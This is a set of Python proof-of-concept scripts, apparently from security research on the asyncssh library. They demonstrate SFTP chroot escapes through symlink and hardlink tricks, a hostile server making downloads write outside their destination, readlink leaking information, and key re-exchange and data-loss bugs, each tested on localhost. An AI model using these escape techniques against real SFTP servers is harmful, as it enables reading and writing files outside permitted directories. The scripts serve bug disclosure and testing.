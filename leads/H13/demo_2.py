#!/usr/bin/env python
"""C13 demo 2: chrooted SFTPServer.link() (hardlink@openssh.com / FXP_LINK)
maps both paths but never looks at what it links.  os.link() on a symlink
makes a second name for the *symlink itself*, so a relative symlink that
was validated in a deep directory can be given a second name in a shallower
directory, where its '..' components climb out of the chroot.  No rename
or posix-rename is involved; the original link stays where it was.

Layout (all under a fresh temp dir inside /tmp/hunt_H13):
    tmp/root            <- chroot handed to SFTPServer
    tmp/root/inside.txt <- legitimate target of the link when it is created
    tmp/secret.txt      <- outside, pre-existing: must not be readable
    tmp/PWNED.txt       <- must never appear

Exit status: 0 if nothing escaped, 1 if the server read or wrote outside.
"""

import asyncio
import os
import sys
import tempfile

import asyncssh

TIMEOUT = 20


class _NoAuthServer(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


async def run(tmp):
    root = os.path.join(tmp, 'root')
    os.mkdir(root)

    with open(os.path.join(root, 'secret.txt'), 'w') as f:
        f.write('decoy inside the root\n')

    with open(os.path.join(tmp, 'secret.txt'), 'w') as f:
        f.write('TOP SECRET outside the root\n')

    pwned = os.path.join(tmp, 'PWNED.txt')
    escaped = []

    key = asyncssh.generate_private_key('ssh-ed25519')

    server = await asyncssh.listen(
        '127.0.0.1', 0, server_host_keys=[key], server_factory=_NoAuthServer,
        sftp_factory=lambda chan: asyncssh.SFTPServer(chan, chroot=root))

    port = server.sockets[0].getsockname()[1]

    async with asyncssh.connect('127.0.0.1', port, username='u',
                                known_hosts=None, client_keys=None) as conn:
        async with conn.start_sftp_client() as sftp:
            await sftp.mkdir('/a')

            # Both links are fine where they are created: from /a, '..' is
            # the root, so they resolve to <root>/secret.txt, <root>/PWNED.txt
            await sftp.symlink('../secret.txt', '/a/rd')
            await sftp.symlink('../PWNED.txt', '/a/wr')

            # Hard link the symlinks themselves into the root directory
            for name in ('rd', 'wr'):
                try:
                    await sftp.link('/a/' + name, '/' + name)
                except (OSError, asyncssh.Error) as exc:
                    print('link(/a/%s, /%s) refused: %s' % (name, name, exc))

            for name in ('rd', 'wr'):
                path = os.path.join(root, name)

                if os.path.islink(path):
                    print('root/%s -> %s  (resolves to %s)' %
                          (name, os.readlink(path), os.path.realpath(path)))

            # read through /rd
            try:
                async with sftp.open('/rd', 'r') as f:
                    data = await f.read()

                print('read through /rd:', data.strip())

                if 'TOP SECRET' in data:
                    escaped.append('read ' + os.path.join(tmp, 'secret.txt'))
            except (OSError, asyncssh.Error) as exc:
                print('open(/rd) refused:', exc)

            # write through /wr
            try:
                async with sftp.open('/wr', 'w') as f:
                    await f.write('written through the chroot\n')
            except (OSError, asyncssh.Error) as exc:
                print('open(/wr, w) refused:', exc)

    server.close()
    await server.wait_closed()

    if os.path.lexists(pwned):
        escaped.append('created ' + pwned)

    if escaped:
        for item in escaped:
            print('ESCAPED:', item)

        return 1

    print('OK: nothing outside', root, 'was touched')
    return 0


def main():
    base = os.path.dirname(os.path.abspath(__file__))

    with tempfile.TemporaryDirectory(dir=base, prefix='demo2_') as tmp:
        return asyncio.run(asyncio.wait_for(run(tmp), TIMEOUT))


if __name__ == '__main__':
    sys.exit(main())
