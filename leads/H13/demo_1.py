#!/usr/bin/env python
"""C13 demo 1: chrooted SFTPServer.symlink() stores the client's relative
target VERBATIM whenever it happens to resolve, at that moment, to the same
place as its lexically normalised form.  A verbatim target may contain
'<component>/..' pairs, and what such a pair means depends on what
<component> is *later*.  Nothing is renamed or moved in either variant.

Variant A (two SYMLINK requests, then OPEN):
    symlink /l -> n/../PWNED_A.txt     'n' does not exist yet, so realpath()
                                        collapses 'n/..' lexically: accepted
    symlink /n -> .                     a link to the root itself: accepted
    open    /l  (write, create)         n/.. is now the PARENT of the chroot

Variant B (the intermediate component is replaced):
    mkdir /p, mkdir /p/q, symlink /d -> p/q
    symlink /m -> d/../../PWNED_B.txt   d/.. is /p right now: accepted
    remove /d, mkdir /d                 d/../.. is now the parent of the chroot
    open    /m  (write, create)

Layout (all under a fresh temp dir inside /tmp/hunt_H13):
    tmp/root          <- chroot handed to SFTPServer
    tmp/PWNED_A.txt   <- must never appear
    tmp/PWNED_B.txt   <- must never appear

Exit status: 0 if nothing escaped, 1 if the server created a file outside.
"""

import asyncio
import os
import sys
import tempfile

import asyncssh

TIMEOUT = 20


class _NoAuthServer(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


async def attempt(label, coro):
    try:
        await coro
    except (OSError, asyncssh.Error) as exc:
        print('  %s refused: %s' % (label, exc))


async def write_through(sftp, path):
    async with sftp.open(path, 'w') as f:
        await f.write('written through the chroot via %s\n' % path)


async def run(tmp):
    root = os.path.join(tmp, 'root')
    os.mkdir(root)

    key = asyncssh.generate_private_key('ssh-ed25519')

    server = await asyncssh.listen(
        '127.0.0.1', 0, server_host_keys=[key], server_factory=_NoAuthServer,
        sftp_factory=lambda chan: asyncssh.SFTPServer(chan, chroot=root))

    port = server.sockets[0].getsockname()[1]

    async with asyncssh.connect('127.0.0.1', port, username='u',
                                known_hosts=None, client_keys=None) as conn:
        async with conn.start_sftp_client() as sftp:
            print('variant A: dangling intermediate component')
            await attempt('symlink /l', sftp.symlink('n/../PWNED_A.txt', '/l'))
            await attempt('symlink /n', sftp.symlink('.', '/n'))
            await attempt('open /l', write_through(sftp, '/l'))

            print('variant B: intermediate symlink replaced by a directory')
            await sftp.mkdir('/p')
            await sftp.mkdir('/p/q')
            await attempt('symlink /d', sftp.symlink('p/q', '/d'))
            await attempt('symlink /m',
                          sftp.symlink('d/../../PWNED_B.txt', '/m'))
            await attempt('remove /d', sftp.remove('/d'))
            await attempt('mkdir /d', sftp.mkdir('/d'))
            await attempt('open /m', write_through(sftp, '/m'))

    server.close()
    await server.wait_closed()

    for name in ('l', 'n', 'm'):
        path = os.path.join(root, name)

        if os.path.islink(path):
            print('root/%s -> %-22s resolves to %s' %
                  (name, os.readlink(path), os.path.realpath(path)))

    escaped = [name for name in sorted(os.listdir(tmp)) if name != 'root']

    for name in escaped:
        path = os.path.join(tmp, name)
        print('ESCAPED: created outside the chroot: %s (%s)' %
              (path, open(path).read().strip()))

    if escaped:
        return 1

    print('OK: nothing was created outside', root)
    return 0


def main():
    base = os.path.dirname(os.path.abspath(__file__))

    with tempfile.TemporaryDirectory(dir=base, prefix='demo1_') as tmp:
        return asyncio.run(asyncio.wait_for(run(tmp), TIMEOUT))


if __name__ == '__main__':
    sys.exit(main())
