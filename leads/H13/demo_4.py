#!/usr/bin/env python
"""C13 demo 4: chrooted SFTPServer.readlink() inspects files OUTSIDE the
root and reports what it finds to the client.

    path = os.readlink(map_path(path))
    if self._chroot:
        path = os.path.realpath(path)        # <-- relative to the PROCESS cwd
    return self.reverse_map_path(path)

For a relative link target, realpath() is not evaluated from the directory
the link lives in (inside the root) but from the server process's current
working directory.  realpath() then lstat()s and readlink()s every
component of  <cwd>/<client chosen target>, i.e. objects outside the root
selected by the client, and the reply depends on them.

Here the server's cwd is tmp/ (the parent of the root, like a daemon running
with cwd '/'), and tmp/ holds things the confined client must know nothing
about:

    tmp/root            <- chroot handed to SFTPServer
    tmp/probe           <- outside: symlink -> root/name-of-outside-target
    tmp/plain           <- outside: a real directory
    tmp/alias           <- outside: symlink -> far/away (a directory)

The client only creates links inside the root and asks READLINK:
    /l1 -> probe                 answer reveals the target of tmp/probe
    /l2 -> plain/../root/hit     answered '/hit'  : tmp/plain is no symlink
    /l3 -> alias/../root/hit     answered 'no such file': tmp/alias is one
and /l1 is asked again after tmp/probe has been deleted behind the
server's back: the answer changes although nothing inside the root did.

Exit status: 0 if every answer is independent of what lies outside the
root, 1 if the replies leak / depend on outside objects.
"""

import asyncio
import os
import sys
import tempfile

import asyncssh

TIMEOUT = 20


class _NoAuthServer(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


async def ask(sftp, path):
    try:
        return await sftp.readlink(path)
    except (OSError, asyncssh.Error) as exc:
        return '<%s: %s>' % (type(exc).__name__, exc)


async def run(tmp):
    root = os.path.join(tmp, 'root')
    os.mkdir(root)

    os.symlink('root/name-of-outside-target', os.path.join(tmp, 'probe'))
    os.mkdir(os.path.join(tmp, 'plain'))
    os.makedirs(os.path.join(tmp, 'far', 'away'))
    os.symlink('far/away', os.path.join(tmp, 'alias'))

    key = asyncssh.generate_private_key('ssh-ed25519')

    server = await asyncssh.listen(
        '127.0.0.1', 0, server_host_keys=[key], server_factory=_NoAuthServer,
        sftp_factory=lambda chan: asyncssh.SFTPServer(chan, chroot=root))

    port = server.sockets[0].getsockname()[1]

    async with asyncssh.connect('127.0.0.1', port, username='u',
                                known_hosts=None, client_keys=None) as conn:
        async with conn.start_sftp_client() as sftp:
            await sftp.symlink('probe', '/l1')
            await sftp.symlink('plain/../root/hit', '/l2')
            await sftp.symlink('alias/../root/hit', '/l3')

            for name in ('l1', 'l2', 'l3'):
                print('stored in root: %s -> %s' %
                      (name, os.readlink(os.path.join(root, name))))

            a1 = await ask(sftp, '/l1')
            a2 = await ask(sftp, '/l2')
            a3 = await ask(sftp, '/l3')

            os.remove(os.path.join(tmp, 'probe'))   # change OUTSIDE the root

            a1_again = await ask(sftp, '/l1')

    server.close()
    await server.wait_closed()

    print('readlink /l1                      :', a1)
    print('readlink /l1, tmp/probe deleted   :', a1_again)
    print('readlink /l2 (via outside dir)    :', a2)
    print('readlink /l3 (via outside symlink):', a3)

    leaks = []

    if 'name-of-outside-target' in a1:
        leaks.append('reply for /l1 discloses the target of the outside '
                     'symlink ' + os.path.join(tmp, 'probe'))

    if a1 != a1_again:
        leaks.append('reply for /l1 changed when only an object outside '
                     'the root changed')

    if a2 != a3:
        leaks.append('replies for /l2 and /l3 differ only because of the '
                     'type of tmp/plain vs tmp/alias (outside the root)')

    for leak in leaks:
        print('ESCAPED:', leak)

    if leaks:
        return 1

    print('OK: readlink replies do not depend on anything outside', root)
    return 0


def main():
    base = os.path.dirname(os.path.abspath(__file__))
    oldcwd = os.getcwd()

    with tempfile.TemporaryDirectory(dir=base, prefix='demo4_') as tmp:
        os.chdir(tmp)

        try:
            return asyncio.run(asyncio.wait_for(run(tmp), TIMEOUT))
        finally:
            os.chdir(oldcwd)


if __name__ == '__main__':
    sys.exit(main())
