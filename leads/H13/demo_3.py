#!/usr/bin/env python
"""C13 demo 3: SFTPClient.mget()/get() with a pattern (or a list of paths)
that yields two remote names with the same basename writes outside the
destination directory when the server is hostile.

_begin_copy() forms every local name as  <dst>/<basename(remote name)>  and
SFTPGlob only de-duplicates *full* remote paths.  A hostile server answers
the pattern  '*/*.txt'  with

    d1/report.txt   type SYMLINK, readlink -> <tmp>/PWNED.txt   (absolute)
    d2/report.txt   type REGULAR, some content

follow_symlinks defaults to False, so the first match is recreated locally
as the symlink  <dst>/report.txt -> <tmp>/PWNED.txt ; the second match is
then opened as  <dst>/report.txt  with plain open(..., 'wb'), which follows
the link just planted and creates/overwrites <tmp>/PWNED.txt, outside the
destination the caller named.  (The seen_names guard added to the recursive
directory copy does not cover names produced by pattern expansion coming
from different remote directories.)

Layout (all under a fresh temp dir inside /tmp/hunt_H13):
    tmp/srv        <- tree served by the hostile server
    tmp/dst        <- destination named by the caller (starts empty)
    tmp/PWNED.txt  <- must never appear

Exit status: 0 if nothing outside tmp/dst was created, 1 otherwise.
"""

import asyncio
import os
import sys
import tempfile

import asyncssh

TIMEOUT = 20


class _NoAuthServer(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


def hostile_factory(srv, link_target):
    class HostileSFTPServer(asyncssh.SFTPServer):
        """Serves tmp/srv, but controls listing order and link targets"""

        def __init__(self, chan):
            super().__init__(chan, chroot=srv)

        async def scandir(self, path):
            entries = [entry async for entry in super().scandir(path)]

            for entry in sorted(entries, key=lambda e: e.filename):
                yield entry

        def readlink(self, path):
            return link_target

    return HostileSFTPServer


async def run(tmp):
    srv = os.path.join(tmp, 'srv')
    dst = os.path.join(tmp, 'dst')
    pwned = os.path.join(tmp, 'PWNED.txt')

    os.makedirs(os.path.join(srv, 'd1'))
    os.makedirs(os.path.join(srv, 'd2'))
    os.mkdir(dst)

    # The type of d1/report.txt is all that matters; its target is whatever
    # the hostile readlink() above says
    os.symlink('whatever', os.path.join(srv, 'd1', 'report.txt'))

    with open(os.path.join(srv, 'd2', 'report.txt'), 'w') as f:
        f.write('attacker controlled content\n')

    key = asyncssh.generate_private_key('ssh-ed25519')

    server = await asyncssh.listen(
        '127.0.0.1', 0, server_host_keys=[key], server_factory=_NoAuthServer,
        sftp_factory=hostile_factory(srv.encode(), pwned.encode()))

    port = server.sockets[0].getsockname()[1]

    async with asyncssh.connect('127.0.0.1', port, username='u',
                                known_hosts=None, client_keys=None) as conn:
        async with conn.start_sftp_client() as sftp:
            try:
                await sftp.mget('*/*.txt', dst)
            except (OSError, asyncssh.Error) as exc:
                print('mget raised:', type(exc).__name__, exc)

    server.close()
    await server.wait_closed()

    for name in sorted(os.listdir(dst)):
        path = os.path.join(dst, name)

        if os.path.islink(path):
            print('dst/%s -> %s' % (name, os.readlink(path)))
        else:
            print('dst/%s (regular)' % name)

    if os.path.lexists(pwned):
        print('ESCAPED: download created', pwned, 'outside destination', dst)
        print('content:', open(pwned).read().strip())
        return 1

    print('OK: nothing was created outside', dst)
    return 0


def main():
    base = os.path.dirname(os.path.abspath(__file__))

    with tempfile.TemporaryDirectory(dir=base, prefix='demo3_') as tmp:
        return asyncio.run(asyncio.wait_for(run(tmp), TIMEOUT))


if __name__ == '__main__':
    sys.exit(main())
