#!/venv/bin/python
"""demo_2: channel data which the application wrote (and drained) before a
clean conn.close() is thrown away when a key re-exchange happens to be in
progress, while exactly the same program delivers it when no re-exchange is
running.

write() during a re-exchange parks CHANNEL_DATA in _deferred_packets.
drain() returns at once (nothing tells the writer that the data has not even
been encrypted yet).  close() -> disconnect() closes the channels (their
EOF/CLOSE are parked too), then sends MSG_DISCONNECT -- which is not a
deferred type, so it overtakes everything parked -- and _force_close()
drops _deferred_packets for good.  disconnect() documents "closes the SSH
connection after buffered data waiting to be written has been sent".

Two runs of the same client code against the same server:
  control: default rekey limits            -> the server session gets it all
  rekey:   rekey_bytes=1 (public option)   -> the write starts a re-exchange

Exit 0 if both runs deliver all bytes, 1 otherwise.
"""

import asyncio
import sys

import asyncssh

SIZE = 20000


async def trial(**client_opts):
    got = bytearray()
    eof = []
    lost = asyncio.Event()

    class Session(asyncssh.SSHServerSession):
        def shell_requested(self):
            return True

        def data_received(self, data, datatype):
            got.extend(data)

        def eof_received(self):
            eof.append(True)
            return False

    class Server(asyncssh.SSHServer):
        def begin_auth(self, username):
            return False

        def session_requested(self):
            return Session()

        def connection_lost(self, exc):
            lost.set()

    skey = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[skey],
                                   server_factory=Server, encoding=None)
    port = server.sockets[0].getsockname()[1]

    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='user', **client_opts)

    writer, _, _ = await conn.open_session(encoding=None)

    # let the session get established and everything go quiet
    await asyncio.sleep(0.3)

    writer.write(b'd' * SIZE)
    writer.write_eof()
    await writer.drain()

    conn.close()
    await asyncio.wait_for(conn.wait_closed(), 10)
    await asyncio.wait_for(lost.wait(), 10)

    server.close()
    await asyncio.wait_for(server.wait_closed(), 10)

    return len(got), bool(eof)


async def main():
    control = await trial()
    print('control (no re-exchange running): server session received '
          '%d of %d bytes, eof=%s' % (control[0], SIZE, control[1]))

    rekey = await trial(rekey_bytes=1)
    print('rekey_bytes=1 (write starts a re-exchange): server session '
          'received %d of %d bytes, eof=%s' % (rekey[0], SIZE, rekey[1]))

    if control[0] != SIZE:
        print('INCONCLUSIVE: the control run lost data too')
        return 2

    if rekey[0] != SIZE or not rekey[1]:
        print('FAIL: %d bytes written and drained before close() were '
              'dropped because a key re-exchange was in progress' %
              (SIZE - rekey[0]))
        return 1

    print('OK')
    return 0


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 60)))
    except asyncio.TimeoutError:
        print('FAIL: timed out')
        sys.exit(1)
