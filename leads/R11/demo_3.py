#!/venv/bin/python
"""demo_3: a re-exchange started by a (non-asyncssh) client which sets
first_kex_packet_follows and guesses the HOST KEY algorithm wrong kills the
session.

RFC 4253 7 / 7.1: a side may send a guessed first key exchange packet right
behind its KEXINIT and set first_kex_packet_follows.  "The guess is
considered wrong if the kex algorithm and/or the host key algorithm is
guessed wrong (server and client have different preferred algorithm)".  If
the guess was wrong "the next packet MUST be silently ignored, and both
sides MUST then act as determined by the negotiated key exchange method"
(i.e. the client sends a fresh KEX_ECDH_INIT).

SSHConnection._process_kexinit() only compares the key exchange algorithm:

    self._ignore_first_kex = (first_kex_follows and
                              self._kex.algorithm != peer_kex_algs[0])

so with a right kex guess but a wrong host key guess the asyncssh server
does NOT skip the guessed packet; it completes the exchange with the
guessed (discarded) client key, and then meets the real KEX_ECDH_INIT with
"Key exchange not in progress".  The connection is torn down in the middle
of a session and the channel data in flight is lost.

The foreign client is an asyncssh client which is hand-driven to behave as
the RFC describes: for the re-exchange its KEXINIT is rewritten to carry
first_kex_packet_follows=1 and host key algorithms
"rsa-sha2-256,ssh-ed25519" (the server only has an ed25519 key, so the
negotiated host key algorithm differs from the guess), a guessed
KEX_ECDH_INIT made with a throw-away key is sent right behind it, and after
the server's KEXINIT arrives the regular KEX_ECDH_INIT is sent.  Both ends
only offer curve25519-sha256, so the kex algorithm guess is right.

Exit 0: the re-exchange completes and the echo channel keeps working.
Exit 1: the connection died / data was lost.
"""

import asyncio
import sys

import asyncssh
from asyncssh.crypto import Curve25519DH
from asyncssh.packet import String

MSG_KEXINIT = 20
MSG_KEX_ECDH_INIT = 30


class Server(asyncssh.SSHServer):
    def __init__(self, errors):
        self._errors = errors

    def begin_auth(self, username):
        return False

    def connection_lost(self, exc):
        self._errors.append(('server', exc))


class Client(asyncssh.SSHClient):
    def __init__(self, errors):
        self._errors = errors

    def connection_lost(self, exc):
        self._errors.append(('client', exc))


async def handle(process):
    while True:
        data = await process.stdin.read(1000)

        if not data:
            break

        process.stdout.write(data)

    process.exit(0)


async def main():
    errors = []

    skey = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[skey],
                                   server_factory=lambda: Server(errors),
                                   process_factory=handle, encoding=None,
                                   kex_algs=['curve25519-sha256'])
    port = server.sockets[0].getsockname()[1]

    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='user',
                                  client_factory=lambda: Client(errors),
                                  kex_algs=['curve25519-sha256'])

    proc = await conn.create_process(encoding=None)
    proc.stdin.write(b'before')
    assert await asyncio.wait_for(proc.stdout.readexactly(6), 10) == b'before'

    # ---- turn the client into the "guessing" peer for the re-exchange ----
    conn._server_host_key_algs = [b'rsa-sha2-256', b'ssh-ed25519']

    orig_send_packet = conn.send_packet
    state = {'rewritten': False}

    def send_packet(pkttype, *args, **kwargs):
        if pkttype == MSG_KEXINIT and not state['rewritten']:
            state['rewritten'] = True

            payload = b''.join(args)
            assert payload[-5:] == b'\0\0\0\0\0'

            # first_kex_packet_follows = TRUE
            payload = payload[:-5] + b'\1' + b'\0\0\0\0'
            conn._client_kexinit = bytes((MSG_KEXINIT,)) + payload

            orig_send_packet(MSG_KEXINIT, payload, **kwargs)

            # the guessed packet, right behind the KEXINIT
            orig_send_packet(MSG_KEX_ECDH_INIT,
                             String(Curve25519DH().get_public()))
            return None

        return orig_send_packet(pkttype, *args, **kwargs)

    conn.send_packet = send_packet

    # start the re-exchange from the client
    conn._send_kexinit()
    conn._kexinit_sent = True

    proc.stdin.write(b'after!')

    ok = False

    try:
        echoed = await asyncio.wait_for(proc.stdout.readexactly(6), 10)
        ok = echoed == b'after!'

        if not ok:
            print('FAIL: wrong data echoed after the re-exchange:', echoed)
    except asyncio.TimeoutError:
        print('FAIL: no echo within 10s after the re-exchange')
    except Exception as exc:
        print('FAIL: channel broke during the re-exchange: %r' % (exc,))

    await asyncio.sleep(0.2)

    errors = list(errors)   # what went wrong before we shut things down

    for side, exc in errors:
        print('  %s connection_lost: %r' % (side, exc))

    conn.abort()
    server.close()
    await asyncio.wait_for(server.wait_closed(), 10)

    if ok and not errors:
        print('OK: wrongly guessed packet ignored, re-exchange completed')
        return 0

    return 1


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 60)))
    except asyncio.TimeoutError:
        print('FAIL: timed out')
        sys.exit(1)
