#!/venv/bin/python
"""demo_1: channel data is emitted between our KEXINIT and our NEWKEYS when
the rekey time limit expires between the two clock reads send_packet() makes
for one application packet.

send_packet(CHANNEL_DATA) first checks the rekey limits and the "defer while
a key exchange is running" rule for the CHANNEL_DATA packet, and only then
calls itself recursively to put an MSG_IGNORE in front of the packet.  The
recursive call checks the rekey limits again (a second time.monotonic()
read).  If the interval runs out between the two reads, the recursive call
sends KEXINIT, but the outer call has already decided not to defer: the
CHANNEL_DATA packet goes out right behind our KEXINIT.

The demo replaces only the 'time' name inside asyncssh.connection by a clock
that is the real monotonic clock until it is armed; once armed, the first
read returns the real time and every later read returns real time + 2h, i.e.
the default 1h rekey_seconds deadline falls between two consecutive reads.
The sources are not modified; the client's send_packet()/_send() are wrapped
on the instance only to record what is written to the wire, in order.

Exit 0: nothing but kex/transport messages between KEXINIT and NEWKEYS.
Exit 1: something else was emitted in that window.
"""

import asyncio
import sys
import time as real_time

import asyncssh
import asyncssh.connection as ac

MSG_KEXINIT, MSG_NEWKEYS, MSG_KEX_LAST = 20, 21, 49
TRANSPORT_OK = {1, 2, 3, 4, 7, 8}       # disconnect, ignore, unimpl, debug,
                                         # ext_info, newcompress


class FakeTime:
    """The real clock, with one controllable jump"""

    def __init__(self):
        self.armed = False
        self.reads_after_arm = 0
        self.offset = 0.0

    def arm(self):
        self.armed = True
        self.reads_after_arm = 0

    def monotonic(self):
        if self.armed:
            self.reads_after_arm += 1

            if self.reads_after_arm == 2:
                self.offset = 7200.0    # the deadline passes right here

        return real_time.monotonic() + self.offset

    def __getattr__(self, name):
        return getattr(real_time, name)


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


async def handle(process):
    while True:
        data = await process.stdin.read(1000)

        if not data:
            break

        process.stdout.write(data)

    process.exit(0)


async def main():
    clock = FakeTime()
    ac.time = clock

    skey = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[skey],
                                   server_factory=Server,
                                   process_factory=handle, encoding=None)
    port = server.sockets[0].getsockname()[1]

    # default limits: rekey_bytes 1 GB, rekey_seconds 1 hour
    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='user')

    proc = await conn.create_process(encoding=None)
    proc.stdin.write(b'a')
    assert await asyncio.wait_for(proc.stdout.readexactly(1), 10) == b'a'

    # record the packet types the client really writes, in wire order
    wire = []
    stack = []
    orig_send_packet = conn.send_packet
    orig_send = conn._send

    def send_packet(pkttype, *args, **kwargs):
        stack.append(pkttype)

        try:
            return orig_send_packet(pkttype, *args, **kwargs)
        finally:
            stack.pop()

    def _send(data):
        wire.append(stack[-1])
        return orig_send(data)

    conn.send_packet = send_packet
    conn._send = _send

    clock.arm()
    proc.stdin.write(b'b')          # exactly one application packet

    echoed = await asyncio.wait_for(proc.stdout.readexactly(1), 10)
    await asyncio.sleep(0.2)

    conn.close()
    await asyncio.wait_for(conn.wait_closed(), 10)
    server.close()
    await asyncio.wait_for(server.wait_closed(), 10)

    print('client wire order (message numbers):', wire)

    if MSG_KEXINIT not in wire:
        print('INCONCLUSIVE: no re-exchange was started')
        return 2

    start = wire.index(MSG_KEXINIT)
    end = wire.index(MSG_NEWKEYS, start) if MSG_NEWKEYS in wire[start:] \
        else len(wire)

    bad = [t for t in wire[start+1:end]
           if not (t in TRANSPORT_OK or 20 <= t <= MSG_KEX_LAST)]

    if echoed != b'b':
        print('FAIL: data was lost or changed:', echoed)
        return 1

    if bad:
        print('FAIL: between its KEXINIT and its NEWKEYS the client emitted '
              'non key-exchange message(s)', bad,
              '(94 = SSH_MSG_CHANNEL_DATA)')
        return 1

    print('OK: only key-exchange/transport messages between KEXINIT and '
          'NEWKEYS')
    return 0


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 60)))
    except asyncio.TimeoutError:
        print('FAIL: timed out')
        sys.exit(1)
