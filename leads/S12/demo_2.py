"""SFTPClientFile.read() to end of file returns truncated data without an error
when the file was opened with block_size=None (or 0)

Expected by the property (C12): file reads of any size, with any block
size, return exactly the source bytes, also when the server answers with
short reads; a truncated result is never reported as success. read() is
documented as: "If size is negative, all data up to the end of the file is
returned", and open() documents block_size=None as a legal value ("each read
or write call will become a single request to the SFTP server").

Observed: against AsyncSSH's own SFTP server, read() on a 5 MiB file opened
with block_size=None (or 0) returns only the first 4 MiB (4194304 bytes) and
raises nothing. The same call with the default block size returns all of it.

Responsible code:
  * asyncssh/sftp.py: SFTPClientFile.read() - the repair "always go through
    the block reader when reading to EOF" is guarded by "if self.read_len
    and ...", so with block_size None/0 a read to EOF still is one
    SSH_FXP_READ whose short answer is taken for everything up to EOF.
  * asyncssh/sftp.py: SFTPServerHandler._process_read() - since the repair
    "limit the length of an SFTP read request to the maximum read length"
    the built-in server answers at most MAX_SFTP_READ_LEN (4 MiB) per
    request, relying on "clients ask for the rest"; this client path does
    not. (Before that repair the same program received the whole file, and
    any other server that caps reads - OpenSSH does at 255 KiB - triggers the
    same truncation.)
"""

import asyncio
import os
import shutil
import sys

import asyncssh

SCRATCH = '/tmp/hunt_S12/scratch_demo_2'
PATH = os.path.join(SCRATCH, 'big')
SIZE = 5 * 1024 * 1024


class _NoAuthServer(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


async def run() -> int:
    key = asyncssh.generate_private_key('ssh-ed25519')

    server = await asyncssh.listen('127.0.0.1', 0, server_factory=_NoAuthServer,
                                   server_host_keys=[key], sftp_factory=True)
    port = server.sockets[0].getsockname()[1]

    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='user', client_keys=None)
    sftp = await conn.start_sftp_client()

    data = os.urandom(SIZE)

    with open(PATH, 'wb') as f:
        f.write(data)

    result = 0

    for block_size in (-1, None, 0):
        async with sftp.open(PATH, 'rb', block_size=block_size) as f:
            try:
                got = await f.read()
            except (OSError, asyncssh.Error) as exc:
                print('block_size=%r: read() raised %r' % (block_size, exc))
                continue

            pos = await f.tell()

        print('block_size=%r: read() returned %d of %d bytes, equal=%s, '
              'tell()=%d' % (block_size, len(got), SIZE, got == data, pos))

        if got != data:
            print('MISBEHAVIOUR: truncated data returned as "all data up to '
                  'the end of the file"')
            result = 1

    conn.close()
    server.close()
    await conn.wait_closed()

    return result


def main() -> int:
    shutil.rmtree(SCRATCH, ignore_errors=True)
    os.makedirs(SCRATCH)

    try:
        return asyncio.run(asyncio.wait_for(run(), 50))
    finally:
        shutil.rmtree(SCRATCH, ignore_errors=True)


if __name__ == '__main__':
    sys.exit(main())
