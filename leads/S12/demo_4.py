"""SFTPClient.copy() of a file onto itself destroys the file and reports success

Expected by the property (C12): copy produces exactly the source bytes at the
destination or raises an error; it never reports success for a corrupted
result. When source and destination turn out to be the same file the only
results that satisfy this are an untouched file or an error (cp(1): "'d/f'
and 'd/f' are the same file"; OpenSSH's sftp-server refuses copy-data between
handles of the same path).

Observed: sftp.copy('<dir>/f', '<dir>') - a natural way to say "copy f into
that directory", which resolves to the path of the source itself - returns
normally and leaves
  * an empty file with sparse=False, and
  * a file of the right length consisting of zero bytes only with the
    default sparse=True.

Responsible code: asyncssh/sftp.py: _SFTPFileCopier.run() opens the source
'rb' and then the destination 'wb' (truncating the file just opened for
reading) without comparing them; in the copy-data branch nothing checks how
much was copied, and for sparse copies the "source ends in a hole" repair
then extends the emptied file to the announced size with setstat().
SFTPServerHandler._process_copy_data() answers FX_OK although it copied
fewer bytes than the explicit length it was given.
"""

import asyncio
import os
import shutil
import sys

import asyncssh

SCRATCH = '/tmp/hunt_S12/scratch_demo_4'
DIR = os.path.join(SCRATCH, 'd')
PATH = os.path.join(DIR, 'f')
SIZE = 50000


class _NoAuthServer(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


async def run() -> int:
    key = asyncssh.generate_private_key('ssh-ed25519')

    server = await asyncssh.listen('127.0.0.1', 0, server_factory=_NoAuthServer,
                                   server_host_keys=[key], sftp_factory=True)
    port = server.sockets[0].getsockname()[1]

    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='user', client_keys=None)
    sftp = await conn.start_sftp_client()

    result = 0

    for sparse in (False, True):
        data = os.urandom(SIZE)

        with open(PATH, 'wb') as f:
            f.write(data)

        try:
            await sftp.copy(PATH, DIR, sparse=sparse)
        except (OSError, asyncssh.SFTPError) as exc:
            print('copy(sparse=%s): raised %r' % (sparse, exc))
            continue

        with open(PATH, 'rb') as f:
            got = f.read()

        print('copy(sparse=%s): returned normally; file now has %d bytes '
              '(%d of them zero), intact=%s' %
              (sparse, len(got), got.count(0), got == data))

        if got != data:
            result = 1

    if result:
        print('MISBEHAVIOUR: file destroyed, success reported')

    conn.close()
    server.close()
    await conn.wait_closed()

    return result


def main() -> int:
    shutil.rmtree(SCRATCH, ignore_errors=True)
    os.makedirs(DIR)

    try:
        return asyncio.run(asyncio.wait_for(run(), 50))
    finally:
        shutil.rmtree(SCRATCH, ignore_errors=True)


if __name__ == '__main__':
    sys.exit(main())
