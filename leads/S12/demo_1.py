"""SFTPClient.copy(sparse=False) reports success when the source ends early

Expected by the property (C12): in a non-sparse transfer, when the source
ends before its announced size, the operation raises an error; it never
reports success for a truncated result. get() and put() do this (they raise
